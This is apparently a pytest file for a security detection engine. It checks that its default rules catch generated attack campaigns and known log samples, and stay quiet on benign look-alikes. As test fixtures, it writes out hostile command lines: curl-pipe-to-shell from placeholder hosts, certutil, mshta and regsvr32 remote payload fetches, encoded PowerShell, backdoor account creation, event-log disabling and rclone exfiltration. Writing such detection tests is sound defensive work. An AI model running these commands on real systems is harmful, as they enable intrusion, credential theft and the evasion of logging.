"""The shipped default rules, run through the real engine: every campaign caught, benign traffic quiet."""

from __future__ import annotations

from collections import defaultdict
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from secustream.analyzer.hits import RuleHit
from secustream.analyzer.native import RulesEngine, RuleSet
from secustream.events import SecurityEvent, ThreatClass
from secustream.generator import EventGenerator
from secustream.normalizers import iter_normalized
from secustream.state import MemoryState

ROOT = Path(__file__).resolve().parents[2]
RULES = ROOT / "services" / "secustream" / "rules" / "default.yaml"
DATA = ROOT / "tests" / "data"
START = datetime(2026, 1, 1, tzinfo=UTC)
SEVERE = {"high", "critical"}
CAMPAIGN_CLASSES = set(ThreatClass) - {ThreatClass.BENIGN, ThreatClass.OTHER_THREAT}


@pytest.fixture(scope="module")
def ruleset() -> RuleSet:
    return RuleSet.load(RULES)


def _evaluate(ruleset: RuleSet, events: Sequence[SecurityEvent], batch: int = 500) -> list[list[RuleHit]]:
    engine = RulesEngine(ruleset, MemoryState())
    hits: list[list[RuleHit]] = []
    for i in range(0, len(events), batch):
        hits.extend(engine.evaluate(events[i:i + batch]))
    return hits


def test_rules_are_complete(ruleset: RuleSet) -> None:
    assert len(ruleset.rules) >= 20
    for rule in ruleset.rules:
        assert rule.spec.mitre, rule.id
        assert rule.spec.recommended_actions, rule.id
    severe_classes = {r.spec.threat_type for r in ruleset.rules if r.spec.severity in SEVERE}
    assert severe_classes >= CAMPAIGN_CLASSES
    by_id = {r.id: r.spec for r in ruleset.rules}
    brute = by_id["SSH-BRUTE-FORCE"].threshold
    assert brute is not None and (brute.count, brute.window_seconds) == (10, 60)
    pam = by_id["PAM-BRUTE-FORCE"].threshold
    assert pam is not None and (pam.count, pam.window_seconds) == (10, 60)
    # a source known only by a host name (PAM rhost) is grouped by that name
    assert brute.group_by == pam.group_by == ["source.ip|source.host"]
    scan = by_id["PORT-SCAN"].threshold
    assert scan is not None and (scan.count, scan.window_seconds, scan.distinct) == (20, 60, "destination.port")


@pytest.mark.parametrize("seed", [11, 29])
def test_every_generated_campaign_is_detected(ruleset: RuleSet, seed: int) -> None:
    gen = EventGenerator(seed=seed, attack_ratio=0.1, start=START)
    batch = gen.next_batch(8000)
    hits = _evaluate(ruleset, [g.event for g in batch])
    detected: dict[str, bool] = {}
    classes: dict[str, ThreatClass] = {}
    for g, event_hits in zip(batch, hits, strict=True):
        if g.campaign_id is None or g.campaign_id in gen.active_campaign_ids:
            continue
        classes[g.campaign_id] = g.label
        severe = any(h.severity in SEVERE and h.threat_type == g.label.value for h in event_hits)
        detected[g.campaign_id] = detected.get(g.campaign_id, False) or severe
    assert set(classes.values()) == CAMPAIGN_CLASSES
    missed = sorted(f"{classes[c].value}:{c}" for c, ok in detected.items() if not ok)
    assert not missed, f"campaigns without a high/critical hit of their own class: {missed}"


def test_benign_only_stream_raises_no_high_or_critical(ruleset: RuleSet) -> None:
    batch = EventGenerator(seed=5, attack_ratio=0.0, start=START).next_batch(20_000)
    hits = _evaluate(ruleset, [g.event for g in batch], batch=1000)
    severe = defaultdict(int)
    for event_hits in hits:
        for h in event_hits:
            if h.severity in SEVERE:
                severe[h.rule_id] += 1
    assert not severe, dict(severe)


def test_sshd_sample_log_flags_exactly_the_brute_force_sources(ruleset: RuleSet) -> None:
    rows = iter_normalized((DATA / "sshd_auth.log").read_text().splitlines(), "sshd", year=2026)
    events = sorted((r.event for r in rows if r.event is not None), key=lambda e: e.timestamp)
    hits = _evaluate(ruleset, events, batch=64)
    flagged: dict[str, set[str | None]] = defaultdict(set)
    for event, event_hits in zip(events, hits, strict=True):
        for h in event_hits:
            if h.severity in SEVERE:
                flagged[h.rule_id].add(event.source.ip)
    # 203.0.113.99 (9 in 30 s), 198.51.100.77 (15 over 20 min) and the single-failure noise stay below.
    # PAM-BRUTE-FORCE counts PAM's own lines: one per invalid-user attempt from 198.51.100.23, but only
    # one (+ "PAM 5 more") per connection from 203.0.113.45, which stays below it.
    assert dict(flagged) == {
        "SSH-BRUTE-FORCE": {"203.0.113.45", "198.51.100.23", "45.155.205.233", "2001:db8:bad:1::66"},
        "PAM-BRUTE-FORCE": {"198.51.100.23"},
    }


def test_ecs_sample_hits(ruleset: RuleSet) -> None:
    rows = [r for r in iter_normalized((DATA / "ecs_events.jsonl").read_text().splitlines(), "jsonl") if r.event]
    hits = _evaluate(ruleset, [r.event for r in rows if r.event is not None])
    got = {r.line_no: sorted(h.rule_id for h in event_hits) for r, event_hits in zip(rows, hits, strict=True)}
    assert got[2] == ["PROC-ENCODED-POWERSHELL", "PROC-OFFICE-SPAWNS-SHELL"]
    assert got[3] == ["EXFIL-LARGE-OUTBOUND"]
    assert got[7] == ["PRIV-ADMIN-GROUP-MEMBER-ADDED"]
    assert got[8] == ["PRIV-SUDO-SERVICE-ACCOUNT"]
    assert got[11] == ["PROC-CURL-PIPE-SHELL"]
    assert all(not got[n] for n in (1, 4, 5, 6, 9, 10, 12))


def _process(cmd: str, name: str = "x", parent: str = "explorer.exe") -> dict[str, Any]:
    return {"event_type": "process", "action": "process_start",
            "source": {"ip": "10.20.0.5", "host": "WS-1"},
            "process": {"name": name, "command_line": cmd, "parent_name": parent}}


def _machine_account(subject_sid: str, subject: str, password_last_set: str) -> dict[str, Any]:
    """Security 4742 as the Windows normaliser gives it (the OTRF Zerologon recording's fields)."""
    return {"event_type": "auth", "action": "computer_account_changed", "outcome": "success",
            "source": {"host": "MORDORDC.theshire.local", "user": subject},
            "destination": {"host": "MORDORDC.theshire.local", "user": "MORDORDC$", "domain": "THESHIRE"},
            "unmapped": {"EventID": 4742, "Channel": "Security", "SubjectUserSid": subject_sid,
                         "SubjectUserName": subject, "TargetUserName": "MORDORDC$",
                         "PasswordLastSet": password_last_set}}


def _task(event_id: int, subject: str, subject_sid: str, task: str) -> dict[str, Any]:
    """Security 4698-4702 as the Windows normaliser gives them (the OTRF recordings' fields)."""
    action = {4698: "scheduled_task_created", 4699: "scheduled_task_deleted", 4702: "scheduled_task_updated"}[event_id]
    return {"event_type": "system", "action": action, "outcome": "success", "source": {"host": "WS-1", "user": subject},
            "unmapped": {"EventID": event_id, "Channel": "Security", "SubjectUserSid": subject_sid,
                         "SubjectUserName": subject, "TaskName": task}}


def _lsass_access(source: str, granted: str) -> dict[str, Any]:
    """Sysmon 10 on lsass.exe as the Windows normaliser gives it."""
    return {"event_type": "process", "action": "process_access", "source": {"host": "WS-1", "user": "pgustavo"},
            "process": {"name": source, "executable": f"C:\\Windows\\System32\\{source}"},
            "unmapped": {"EventID": 10, "SourceImage": f"C:\\Windows\\System32\\{source}",
                         "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": granted}}


def _dcsync(subject: str, properties: str) -> dict[str, Any]:
    """Security 4662 (an operation on a directory object) on a domain controller, as the normaliser keeps it."""
    return {"event_type": "other", "action": "windows_event_4662", "source": {"host": "MORDORDC"},
            "unmapped": {"EventID": 4662, "Channel": "Security", "SubjectUserName": subject,
                         "Properties": properties, "AccessMask": "0x100"}}


def _wmi_binding(operation: str, consumer: str) -> dict[str, Any]:
    """Sysmon 21 (a WMI filter-to-consumer binding) as the Windows normaliser gives it."""
    return {"event_type": "system", "action": "wmi_consumer_to_filter", "source": {"host": "WS-6", "user": "pgustavo"},
            "unmapped": {"EventID": 21, "Operation": operation, "Consumer": f' "{consumer}"',
                         "Filter": ' "__EventFilter.Name=\\"WSUS_QQTJ7\\""'}}


def _registry_set(key: str, details: str) -> dict[str, Any]:
    """Sysmon 13 as the Windows normaliser gives it."""
    return {"event_type": "registry", "action": "registry_set", "source": {"host": "WS-5", "user": "pgustavo"},
            "unmapped": {"EventID": 13, "TargetObject": key, "Details": details}}


def _remote_thread(source: str, target: str) -> dict[str, Any]:
    """Sysmon 8 (CreateRemoteThread) as the Windows normaliser gives it."""
    return {"event_type": "process", "action": "create_remote_thread", "source": {"host": "WS-5"},
            "process": {"name": source},
            "unmapped": {"EventID": 8, "SourceImage": f"C:\\Windows\\System32\\{source}",
                         "TargetImage": f"C:\\Windows\\System32\\{target}", "StartFunction": "-"}}


# (event fields, rule id that must fire or None for "no rule at all")
SINGLE_EVENT_CASES: list[tuple[str, dict[str, Any], str | None]] = [
    ("encoded powershell", _process("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi"),
     "PROC-ENCODED-POWERSHELL"),
    ("-EncodedCommand", _process("pwsh -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
     "PROC-ENCODED-POWERSHELL"),
    ("-Encoding is not -enc", _process("powershell.exe Get-Content C:\\logs\\app.log -Encoding UTF8 -Tail 50"), None),
    ("certutil urlcache", _process("certutil.exe -urlcache -split -f http://1.2.3.4/p.bin C:\\t\\s.exe"),
     "PROC-CERTUTIL-DOWNLOAD"),
    ("certutil decode", _process("certutil -decode payload.b64 payload.exe"), "PROC-CERTUTIL-DOWNLOAD"),
    ("certutil hashfile", _process("certutil.exe -hashfile C:\\setup.msi SHA256"), None),
    ("curl | sh", _process("sh -c 'curl -fsSL http://1.2.3.4/install.sh | sh'"), "PROC-CURL-PIPE-SHELL"),
    ("wget | sudo bash", _process("wget -qO- http://x.example/i | sudo bash"), "PROC-CURL-PIPE-SHELL"),
    ("curl to file", _process("curl -sS -o /tmp/x.tgz https://example.com/x.tgz"), None),
    ("mshta remote", _process("mshta.exe http://1.2.3.4/a.hta"), "PROC-MSHTA-REMOTE"),
    ("mshta javascript", _process('mshta "javascript:a=GetObject(\'script:http://x/a\').Exec();close()"'),
     "PROC-MSHTA-REMOTE"),
    ("regsvr32 squiblydoo", _process("regsvr32 /s /n /u /i:http://1.2.3.4/f.sct scrobj.dll"),
     "PROC-REGSVR32-SCRIPTLET"),
    ("regsvr32 local dll", _process("regsvr32.exe /s C:\\Program Files\\App\\plugin.dll"), None),
    ("word spawns cmd", _process("cmd.exe /c whoami", name="cmd.exe", parent="WINWORD.EXE"),
     "PROC-OFFICE-SPAWNS-SHELL"),
    ("chmod u+s", _process("chmod u+s /bin/bash"), "PRIV-SETUID-BIT"),
    ("chmod 4755", _process("chmod 4755 /tmp/.sh"), "PRIV-SETUID-BIT"),
    ("chmod 0755", _process("chmod 0755 /opt/app/run.sh"), None),
    ("chmod +x", _process("chmod +x deploy.sh"), None),
    ("usermod sudo", _process("usermod -aG sudo svc-backup"), "PRIV-ADMIN-GROUP-COMMAND"),
    ("usermod docker-readers", _process("usermod -aG developers alice"), None),
    ("net localgroup admins", _process('net localgroup "Administrators" bob /add'), "PRIV-ADMIN-GROUP-COMMAND"),
    ("psexec", _process(r"PsExec64.exe \\WS-1002 -accepteula -s cmd.exe", name="PsExec64.exe"), "LATERAL-PSEXEC"),
    ("sc remote create", _process(r'sc.exe \\dc01 create updsvc binPath= "C:\Windows\Temp\u.exe"'),
     "LATERAL-REMOTE-SERVICE-CREATE"),
    ("sc local query", _process("sc.exe query wuauserv"), None),
    ("wmic remote", _process('wmic /node:WS-1003 process call create "cmd.exe /c net user"'),
     "LATERAL-WMIC-REMOTE-EXEC"),
    # the quoted full paths Windows logs (Sysmon 1 / Security 4688 of a real host), not only what was typed
    ("wmic remote, quoted path", _process('"C:\\windows\\System32\\Wbem\\WMIC.exe" /node:WORKSTATION6 process call '
                                          'create "net user /add backdoor paw0rd1"'), "LATERAL-WMIC-REMOTE-EXEC"),
    ("sc remote create, quoted path", _process('"C:\\Windows\\system32\\sc.exe" \\\\dc01 create updsvc binPath= u.exe'),
     "LATERAL-REMOTE-SERVICE-CREATE"),
    ("net localgroup admins, quoted path",
     _process('"C:\\Windows\\system32\\net.exe" localgroup administrators bob /add'), "PRIV-ADMIN-GROUP-COMMAND"),
    ("rclone, quoted path", _process('"C:\\Users\\x\\rclone.exe" copy C:\\data mega:dump'), "EXFIL-RCLONE-CLOUD"),
    ("eventlog disabled by Set-Service", _process("Set-Service -Name EventLog -StartUpType Disabled",
                                                  name="powershell.exe"), "DEFENSE-EVENTLOG-DISABLED"),
    ("eventlog stopped", _process("Stop-Service -Name EventLog -Force", name="powershell.exe"),
     "DEFENSE-EVENTLOG-DISABLED"),
    ("sc config eventlog", _process("sc.exe config eventlog start= disabled"), "DEFENSE-EVENTLOG-DISABLED"),
    ("reg add eventlog start 4",
     _process(r"REG ADD HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\EventLog /t REG_DWORD /v Start /d 4"),
     "DEFENSE-EVENTLOG-DISABLED"),
    ("eventlog registry start 4",
     {"event_type": "registry", "action": "registry_set", "source": {"host": "WS-1"},
      "unmapped": {"TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\EventLog\\Start",
                   "Details": "DWORD (0x00000004)"}}, "DEFENSE-EVENTLOG-DISABLED"),
    ("eventlog registry start 2",
     {"event_type": "registry", "action": "registry_set", "source": {"host": "WS-1"},
      "unmapped": {"TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\EventLog\\Start",
                   "Details": "DWORD (0x00000002)"}}, None),
    ("eventlog queried", _process("Get-Service -Name EventLog; Get-WinEvent -LogName Security -MaxEvents 5"), None),
    ("another service disabled", _process("Set-Service -Name Spooler -StartupType Disabled"), None),
    ("zerologon: a DC's machine password set by anonymous logon", _machine_account("S-1-5-7", "ANONYMOUS LOGON",
                                                                                  "9/16/2020 11:40:05 PM"),
     "LATERAL-ZEROLOGON"),
    ("a DC rotating its own machine password", _machine_account("S-1-5-18", "SYSTEM", "9/16/2020 11:40:05 PM"), None),
    ("an admin editing a computer account", _machine_account("S-1-5-21-1-2-3-1104", "alice", "-"), None),
    ("anonymous logon, password unchanged", _machine_account("S-1-5-7", "ANONYMOUS LOGON", "-"), None),
    ("a user changes a task in Windows' folder", _task(4702, "pgustavo", "S-1-5-21-3786818125-1104",
                                                       "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\EventCacheManager"),
     "PERSIST-TASK-IN-WINDOWS-FOLDER"),
    ("a user creates one there", _task(4698, "pgustavo", "S-1-5-21-3786818125-1104",
                                       "\\Microsoft\\Windows\\Maintenance\\Updater"), "PERSIST-TASK-IN-WINDOWS-FOLDER"),
    ("Windows updates its own task", _task(4702, "PEDRO01$", "S-1-5-18",
                                           "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan"), None),
    ("a computer account with a domain SID", _task(4702, "WS-1$", "S-1-5-21-3786818125-1001",
                                                   "\\Microsoft\\Windows\\GroupPolicy\\{3E0A038B}"), None),
    ("a user's own task elsewhere", _task(4698, "sbeavers", "S-1-5-21-4228717743-1106",
                                          "\\OneDrive Standalone Update Task-S-1-5-21-4228717743-1106"), None),
    ("a user deletes a task there", _task(4699, "pgustavo", "S-1-5-21-3786818125-1104",
                                          "\\Microsoft\\Windows\\Maintenance\\Updater"), None),
    ("powershell reads lsass memory", _lsass_access("powershell.exe", "0x1010"), "CRED-LSASS-READ-BY-POWERSHELL"),
    ("remoting host with full access", _lsass_access("wsmprovhost.exe", "0x1F3FFF"), "CRED-LSASS-READ-BY-POWERSHELL"),
    ("powershell's Get-Process", _lsass_access("powershell.exe", "0x1410"), None),
    ("powershell querying it", _lsass_access("powershell.exe", "0x1400"), None),
    ("powershell duplicating a handle", _lsass_access("powershell.exe", "0x40"), None),
    ("an agent reads lsass", _lsass_access("MsMpEng.exe", "0x1010"), None),
    ("dcsync by a user", _dcsync("pgustavo", "%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"),
     "CRED-DCSYNC-BY-ACCOUNT"),
    ("replication between DCs", _dcsync("MORDORDC$", "%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"), None),
    ("Entra Connect's sync account", _dcsync("MSOL_1a2b3c", "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"), None),
    ("a user reading changes without secrets", _dcsync("pgustavo", "{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}"), None),
    ("wmi script consumer bound", _wmi_binding("Created", 'ActiveScriptEventConsumer.Name="WSUS_RP5ZB"'),
     "PERSIST-WMI-SCRIPT-CONSUMER"),
    ("wmi command line consumer bound", _wmi_binding("Created", 'CommandLineEventConsumer.Name="upd"'),
     "PERSIST-WMI-SCRIPT-CONSUMER"),
    ("the binding removed", _wmi_binding("Deleted", 'ActiveScriptEventConsumer.Name="WSUS_RP5ZB"'), None),
    ("Windows' event log consumer", _wmi_binding("Created", 'NTEventLogEventConsumer.Name="SCM Event Log Consumer"'),
     None),
    ("Windows' BVT consumer", _wmi_binding("Created", 'CommandLineEventConsumer.Name="BVTConsumer"'), None),
    ("a run key that starts powershell", _registry_set(
        "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -c "$x=$((gp HKLM:Software\\x).x)"'),
     "PERSIST-RUN-KEY-POWERSHELL"),
    ("a run key that starts Teams", _registry_set(
        "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\com.squirrel.Teams.Teams",
        'C:\\Users\\x\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart "Teams.exe"'), None),
    ("powershell in another key", _registry_set(
        "HKLM\\SOFTWARE\\Classes\\Microsoft.PowerShellScript.1\\Shell\\Open\\Command",
        '"C:\\Windows\\System32\\notepad.exe" "%1"'), None),
    ("powershell injects a thread", _remote_thread("powershell.exe", "notepad.exe"), "PROC-POWERSHELL-REMOTE-THREAD"),
    ("csrss's console control thread", _remote_thread("csrss.exe", "powershell.exe"), None),
    ("rclone to mega", _process("rclone copy /srv/data mega:dump --transfers 8"), "EXFIL-RCLONE-CLOUD"),
    ("big upload to internet",
     {"event_type": "network", "source": {"ip": "10.10.1.31"}, "destination": {"ip": "185.199.110.153"},
      "network": {"bytes_out": 60_000_000}}, "EXFIL-LARGE-OUTBOUND"),
    ("big backup to RFC1918",
     {"event_type": "network", "source": {"ip": "10.10.1.31"}, "destination": {"ip": "10.10.0.30"},
      "network": {"bytes_out": 4_000_000_000}}, None),
    ("service account sudo",
     {"event_type": "auth", "action": "sudo", "outcome": "success", "source": {"user": "www-data"},
      "destination": {"user": "root", "host": "srv-web-01"}}, "PRIV-SUDO-SERVICE-ACCOUNT"),
    ("admin sudo",
     {"event_type": "auth", "action": "sudo", "outcome": "success", "source": {"user": "alice.smith"},
      "destination": {"user": "root", "host": "srv-web-01"}}, None),
]


@pytest.mark.parametrize(("fields", "rule_id"), [c[1:] for c in SINGLE_EVENT_CASES],
                         ids=[c[0] for c in SINGLE_EVENT_CASES])
def test_single_event_rules_and_near_misses(ruleset: RuleSet, fields: dict[str, Any], rule_id: str | None) -> None:
    event = SecurityEvent.model_validate({"timestamp": START, **fields})
    got = {h.rule_id for h in _evaluate(ruleset, [event])[0]}
    if rule_id is None:
        assert got == set()
    else:
        assert rule_id in got
